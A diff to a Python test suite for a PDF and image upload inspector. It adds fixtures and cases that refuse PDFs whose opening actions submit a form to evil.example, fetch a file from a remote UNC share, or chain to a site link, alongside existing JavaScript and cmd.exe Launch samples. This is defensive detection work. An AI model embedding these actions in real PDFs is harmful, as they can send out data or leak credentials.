@@ -15,6 +15,9 @@ from tests.files import factories as make
 
 SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
 LAUNCH = b"<</S/Launch/F(cmd.exe)>>"
+SUBMIT = b"<</S/SubmitForm/F(https://evil.example)>>"
+SHARE = b"<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]>>"
+SITE = b"<</Type/Action/S/URI/URI(https://evil.example)>>"
 LINK = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A %s>>]"
 CARRIED = (
     b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>",
@@ -34,6 +37,19 @@ def look_at(tmp_path: Path, data: bytes) -> Content:
         (make.pdf(3), Content(PDF, 3)),
         (make.written_pdf(), Content(PDF, 1)),
         (make.pdf_with_hidden_catalog(b""), Content(PDF, 1)),
+        (make.written_pdf(page=LINK % SITE), Content(PDF, 1)),
+        (
+            make.written_pdf(catalog=b"/OpenAction[3 0 R/Fit]", page=LINK % SITE),
+            Content(PDF, 1),
+        ),
+        (
+            make.written_pdf(
+                catalog=b"/OpenAction 5 0 R",
+                page=LINK % SITE,
+                more=(b"<</S/GoTo/D[3 0 R/Fit]>>",),
+            ),
+            Content(PDF, 1),
+        ),
         (make.picture("JPEG"), Content("image/jpeg", None)),
         (make.picture("PNG"), Content("image/png", None)),
         (make.picture("WEBP"), Content("image/webp", None)),
@@ -98,6 +114,15 @@ REFUSED = {
             catalog=b"/AcroForm<</Fields[]/XFA 5 0 R>>",
             more=(b"<</Length 6>>\nstream\n<xdp/>\nendstream",),
         ),
+        "script",
+    ),
+    "a form sent on opening": (make.written_pdf(catalog=b"/OpenAction" + SUBMIT), "script"),
+    "a file of another machine on opening": (
+        make.written_pdf(catalog=b"/OpenAction 5 0 R", more=(SHARE,)),
+        "script",
+    ),
+    "a site opened with the page, second in line": (
+        make.written_pdf(page=b"/AA<</O<</S/GoTo/D[3 0 R/Fit]/Next[5 0 R]>>>>", more=(SITE,)),
         "script",
     ),
     "an attached file": (
